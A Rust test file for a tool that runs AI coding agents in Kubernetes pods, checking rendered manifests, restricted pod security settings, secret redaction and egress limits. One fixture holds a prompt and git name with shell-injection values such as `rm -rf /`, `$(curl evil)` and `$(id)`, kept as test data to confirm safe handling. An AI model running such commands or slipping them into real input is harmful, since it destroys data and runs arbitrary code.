//! Kubernetes plans and manifests, without a cluster: snapshots of the
//! rendered create plans for a matrix of options, every manifest validated
//! offline with `kubernetes-validate --strict`, and the restricted Pod
//! Security profile asserted field by field.

use std::path::PathBuf;
use std::process::Command;

use crate::common::filters::snapshot;
use crate::common::fixtures;

use clauderon::backend::kubernetes::create::create_plan;
use clauderon::backend::kubernetes::daemon::{DaemonParts, daemon_manifests};
use clauderon::backend::kubernetes::manifests::{KubeWiring, ProxyCa, session_manifests};
use clauderon::backend::kubernetes::{KubeSpec, Kubectl, classify, setup};
use clauderon::cluster::keys::ClusterKeys;
use clauderon::isolation::NetworkMode;
use clauderon::limits::{Cpu, Limits, Memory};
use clauderon::plan::{Plan, Step};
use clauderon::session::{Agent, BackendKind, PullPolicy, SessionSpec};
use clauderon::store::Home;
use serde_json::Value;

/// The Kubernetes version the manifests are validated against.
const KUBERNETES_VERSION: &str = "1.33.0";

fn home() -> Home {
    Home {
        root: PathBuf::from("/home/dev/.clauderon"),
    }
}

fn wiring() -> KubeWiring {
    KubeWiring {
        proxy: Some(ProxyCa {
            anthropic_api_key: true,
            ca_pem: "-----BEGIN CERTIFICATE-----\nTEST-CA\n-----END CERTIFICATE-----\n".into(),
            ca_bundle: "-----BEGIN CERTIFICATE-----\nROOTS+TEST-CA\n-----END CERTIFICATE-----\n"
                .into(),
            daemon_ip: "10.96.0.50".into(),
        }),
    }
}

fn keys() -> ClusterKeys {
    ClusterKeys {
        session_key: "00".repeat(32),
        ca_pem: "-----BEGIN CERTIFICATE-----\nNS-CA\n-----END CERTIFICATE-----\n".into(),
        ca_key_pem: "-----BEGIN PRIVATE KEY-----\nNS-CA-KEY\n-----END PRIVATE KEY-----\n".into(),
        ca_bundle: "-----BEGIN CERTIFICATE-----\nROOTS+NS-CA\n-----END CERTIFICATE-----\n".into(),
    }
}

const REAL_KEY: &str = "sk-ant-api03-REAL-do-not-show";

fn credentials() -> Vec<(String, String)> {
    vec![("ANTHROPIC_API_KEY".into(), REAL_KEY.into())]
}

fn daemon_parts<'a>(keys: &'a ClusterKeys, credentials: &'a [(String, String)]) -> DaemonParts<'a> {
    DaemonParts {
        image: "clauderon-daemon:0.1.0",
        home_label: "0123456789abcdef",
        keys,
        credentials,
    }
}

/// The shared sample session, on a cluster.
fn spec() -> SessionSpec {
    SessionSpec {
        backend: BackendKind::Kubernetes,
        image: "ghcr.io/example/agent:1".into(),
        worktree: "/workspace".into(),
        kubernetes: Some(KubeSpec {
            context: "kind-kind".into(),
            namespace: "clauderon".into(),
            storage_class: None,
            storage_size: "10Gi".into(),
            image_pull_secrets: vec![],
            runtime_class: None,
            create_timeout: 300,
            home_label: "0123456789abcdef".into(),
        }),
        ..fixtures::spec()
    }
}

fn kube(s: &mut SessionSpec) -> &mut KubeSpec {
    s.kubernetes.as_mut().unwrap()
}

/// The matrix: (snapshot name, spec).
fn matrix() -> Vec<(&'static str, SessionSpec)> {
    let mut codex = spec();
    codex.agent = Agent::Codex;
    codex.limits = Limits {
        cpu: Some(Cpu::parse("500m").unwrap()),
        memory: Some(Memory::parse("8g").unwrap()),
        ..Default::default()
    };
    codex.pull_policy = PullPolicy::Always;
    codex.subdir = "sub/dir".into();
    codex.env = vec![
        ("PLAIN".into(), "a b $(c)".into()),
        ("MY_API_TOKEN".into(), "s3cr3t-value".into()),
    ];
    let mut hostile = spec();
    hostile.name = "x-1.y".into();
    hostile.branch = "x-1.y".into();
    hostile.prompt = "'; rm -rf / #\n$(curl evil)\n`id`\n\"quoted\" \\ --flag\n日本語 ✨\n".into();
    hostile.git_identity.name = Some("Eve\"; $(id) '".into());
    hostile.pull_policy = PullPolicy::Never;
    let mut custom = spec();
    {
        let k = kube(&mut custom);
        k.context = "arn:aws:eks:eu-west-1:123:cluster/my cluster".into();
        k.namespace = "team-agents".into();
        k.storage_class = Some("fast-ssd".into());
        k.storage_size = "50Gi".into();
        k.image_pull_secrets = vec!["regcred".into()];
        k.runtime_class = Some("gvisor".into());
    }
    custom.lifecycle.on_create = vec!["pip install -r requirements.txt".into()];
    let mut open = spec();
    open.network = NetworkMode::Open;
    vec![
        ("kube_create_default_claude", spec()),
        ("kube_create_codex_limits_always_env_subdir", codex),
        ("kube_create_hostile_prompt_and_name_never", hostile),
        ("kube_create_custom_context_namespace_storage", custom),
        ("kube_create_network_open", open),
    ]
}

fn wiring_for(s: &SessionSpec) -> KubeWiring {
    if s.network == NetworkMode::Open {
        KubeWiring { proxy: None }
    } else {
        wiring()
    }
}

#[test]
fn create_plans_snapshot() {
    for (name, s) in matrix() {
        let plan = create_plan(&s, &home(), &wiring_for(&s), Plan::default())
            .unwrap()
            .render();
        assert!(
            !plan.contains(&s.hook_token),
            "{name}: token in the dry run"
        );
        assert!(
            !plan.contains("s3cr3t-value"),
            "{name}: secret env in the dry run"
        );
        snapshot!(name, plan);
    }
}

/// Every kubectl line names the context and namespace explicitly.
#[test]
fn every_kubectl_call_names_context_and_namespace() {
    for (name, s) in matrix() {
        let k = s.kubernetes.as_ref().unwrap();
        let kubectl = Kubectl::new(&k.context, &k.namespace);
        let mut setup_steps = Plan::default();
        setup_steps.push(Step::run_cmd(setup::apply_namespace(&kubectl), classify));
        let daemon = daemon_manifests(&daemon_parts(&keys(), &[]));
        setup_steps.push(Step::run_cmd(kubectl.apply(&daemon), classify));
        setup_steps.push(Step::run_cmd(kubectl.daemon_rollout(300), classify));
        setup_steps.push(Step::run_cmd(
            kubectl.daemon_statuses(Some(&s.name)),
            classify,
        ));
        let plan = create_plan(&s, &home(), &wiring_for(&s), setup_steps).unwrap();
        let k = s.kubernetes.as_ref().unwrap();
        for step in &plan.steps {
            let text = step.step.render();
            if text.contains("kubectl") {
                let context = format!("--context={}", k.context);
                let quoted = shell_words::quote(&context).into_owned();
                let escaped = context.replace(' ', "% ");
                assert!(
                    text.contains(&quoted) || text.contains(&escaped),
                    "{name}: {text}"
                );
                assert!(
                    text.contains(&format!("--namespace={}", k.namespace)),
                    "{name}: {text}"
                );
            }
        }
    }
}

fn pod_of(manifests: &[Value]) -> &Value {
    manifests.iter().find(|m| m["kind"] == "Pod").unwrap()
}

#[test]
fn the_pod_meets_the_restricted_profile() {
    for (name, s) in matrix() {
        let all = session_manifests(&s, s.kubernetes.as_ref().unwrap(), &wiring_for(&s));
        let pod = pod_of(&all);
        let psc = &pod["spec"]["securityContext"];
        assert_eq!(psc["runAsNonRoot"], true, "{name}");
        assert!(psc["runAsUser"].as_u64().unwrap() > 0, "{name}");
        assert!(psc["fsGroup"].as_u64().unwrap() > 0, "{name}");
        assert_eq!(psc["seccompProfile"]["type"], "RuntimeDefault", "{name}");
        assert_eq!(pod["spec"]["automountServiceAccountToken"], false, "{name}");
        for c in pod["spec"]["containers"].as_array().unwrap() {
            let sc = &c["securityContext"];
            assert_eq!(sc["allowPrivilegeEscalation"], false, "{name}");
            assert_eq!(
                sc["capabilities"]["drop"],
                serde_json::json!(["ALL"]),
                "{name}"
            );
            assert_eq!(c["stdin"], true, "{name}");
            assert_eq!(c["tty"], true, "{name}");
        }
        for m in &all {
            let labels = &m["metadata"]["labels"];
            assert_eq!(
                labels["app.kubernetes.io/managed-by"], "clauderon",
                "{name}"
            );
            assert_eq!(labels["clauderon.io/session"], s.name.as_str(), "{name}");
        }
    }
}

/// In network mode proxy the pod's only way out is the daemon: its
/// NetworkPolicy allows egress to the daemon's pods alone (no DNS, which
/// would carry data out in query names), and the pod finds the daemon by
/// its hosts file, mapping the Service's name to its ClusterIP.
#[test]
fn a_proxy_pod_reaches_only_the_daemon_without_dns() {
    let s = spec();
    let all = session_manifests(&s, s.kubernetes.as_ref().unwrap(), &wiring());
    let policy = all.iter().find(|m| m["kind"] == "NetworkPolicy").unwrap();
    let egress = policy["spec"]["egress"].as_array().unwrap();
    assert_eq!(egress.len(), 1, "{egress:?}");
    assert_eq!(
        egress[0]["to"],
        serde_json::json!([{ "podSelector": { "matchLabels": { "app.kubernetes.io/name": "clauderon-daemon" } } }])
    );
    let ports: Vec<u64> = egress[0]["ports"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["port"].as_u64().unwrap())
        .collect();
    assert_eq!(ports, [3030, 3031]);
    assert_eq!(policy["spec"]["ingress"], serde_json::json!([]));
    let pod = pod_of(&all);
    assert_eq!(
        pod["spec"]["hostAliases"],
        serde_json::json!([{ "ip": "10.96.0.50", "hostnames": ["clauderon-daemon"] }])
    );
}

#[test]
fn limits_pull_policy_and_prompt_are_carried_exactly() {
    let (_, codex) = matrix().remove(1);
    let all = session_manifests(&codex, codex.kubernetes.as_ref().unwrap(), &wiring());
    let c = &pod_of(&all)["spec"]["containers"][0];
    assert_eq!(c["resources"]["limits"]["memory"], "8Gi");
    assert_eq!(c["resources"]["limits"]["cpu"], "500m");
    assert_eq!(c["resources"]["requests"], c["resources"]["limits"]);
    assert_eq!(c["imagePullPolicy"], "Always");
    let secret_env = c["env"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["name"] == "MY_API_TOKEN")
        .unwrap();
    assert_eq!(
        secret_env["valueFrom"]["secretKeyRef"]["key"],
        "env.MY_API_TOKEN"
    );
    let (_, hostile) = matrix().remove(2);
    let all = session_manifests(&hostile, hostile.kubernetes.as_ref().unwrap(), &wiring());
    let map = all.iter().find(|m| m["kind"] == "ConfigMap").unwrap();
    assert_eq!(map["data"]["prompt"].as_str().unwrap(), hostile.prompt);
    assert_eq!(
        pod_of(&all)["spec"]["containers"][0]["imagePullPolicy"],
        "Never"
    );
}

/// kubernetes-validate (PyPI) is how CI checks manifests without a
/// cluster; in CI a missing tool fails the test instead of skipping it.
fn validator() -> Option<&'static str> {
    let ok = Command::new("kubernetes-validate")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if ok {
        return Some("kubernetes-validate");
    }
    if std::env::var("CI").is_ok_and(|v| v == "true" || v == "1") {
        panic!(
            "CI=true: kubernetes-validate is not installed (pip install kubernetes-validate; scripts/ci-provision.sh does)"
        );
    }
    eprintln!("SKIPPED: kubernetes-validate is not installed (pip install kubernetes-validate)");
    None
}

#[test]
fn every_manifest_passes_kubernetes_validate_strict() {
    let Some(tool) = validator() else { return };
    let dir = tempfile::tempdir().unwrap();
    let mut files = Vec::new();
    let mut all: Vec<Value> = vec![setup::namespace("clauderon")];
    all.extend(daemon_manifests(&daemon_parts(&keys(), &credentials())));
    for (_, s) in matrix() {
        all.extend(session_manifests(
            &s,
            s.kubernetes.as_ref().unwrap(),
            &wiring_for(&s),
        ));
    }
    for (i, m) in all.iter().enumerate() {
        let path = dir
            .path()
            .join(format!("{i:02}-{}.json", m["kind"].as_str().unwrap()));
        std::fs::write(&path, serde_json::to_vec_pretty(m).unwrap()).unwrap();
        files.push(path);
    }
    let out = Command::new(tool)
        .args(["--strict", "--kubernetes-version", KUBERNETES_VERSION])
        .args(&files)
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        out.status.success(),
        "kubernetes-validate --strict failed:\n{text}"
    );
    assert_eq!(
        text.matches(" passed for resource").count(),
        files.len(),
        "{text}"
    );
}

/// `kube setup`'s daemon: the apply as the dry run shows it (the Secret's
/// values redacted), and the restricted profile on its pod.
#[test]
fn the_daemon_setup_snapshot_redacts_the_secret_and_the_pod_is_restricted() {
    let (keys, creds) = (keys(), credentials());
    let manifests = daemon_manifests(&daemon_parts(&keys, &creds));
    let kubectl = Kubectl::new("kind-kind", "clauderon");
    let mut plan = Plan::default();
    plan.push(Step::run_cmd(setup::apply_namespace(&kubectl), classify));
    plan.push(Step::run_cmd(kubectl.apply(&manifests), classify));
    plan.push(Step::run_cmd(kubectl.daemon_rollout(300), classify));
    let shown = plan.render();
    for secret in [REAL_KEY, "NS-CA-KEY", &keys.session_key] {
        assert!(!shown.contains(secret), "{secret} in the dry run");
    }
    snapshot!("kube_setup_daemon", shown);
    let kinds: Vec<&str> = manifests
        .iter()
        .map(|m| m["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["Secret", "NetworkPolicy", "Service", "Deployment"]);
    let pod = &manifests[3]["spec"]["template"]["spec"];
    assert_eq!(pod["automountServiceAccountToken"], false);
    assert_eq!(pod["securityContext"]["runAsNonRoot"], true);
    assert_ne!(pod["securityContext"]["runAsUser"], 0);
    assert_eq!(
        pod["securityContext"]["seccompProfile"]["type"],
        "RuntimeDefault"
    );
    let c = &pod["containers"][0];
    assert_eq!(c["securityContext"]["allowPrivilegeEscalation"], false);
    assert_eq!(c["securityContext"]["capabilities"]["drop"][0], "ALL");
    assert_eq!(c["readinessProbe"]["httpGet"]["path"], "/health");
    // The credentials Secret is mounted into the daemon only: no session pod names it.
    for (_, s) in matrix() {
        let text = serde_json::to_string(&session_manifests(
            &s,
            s.kubernetes.as_ref().unwrap(),
            &wiring_for(&s),
        ))
        .unwrap();
        assert!(!text.contains("\"name\":\"clauderon-daemon\""), "{text}");
        assert!(!text.contains("secretName\":\"clauderon-daemon"), "{text}");
    }
}
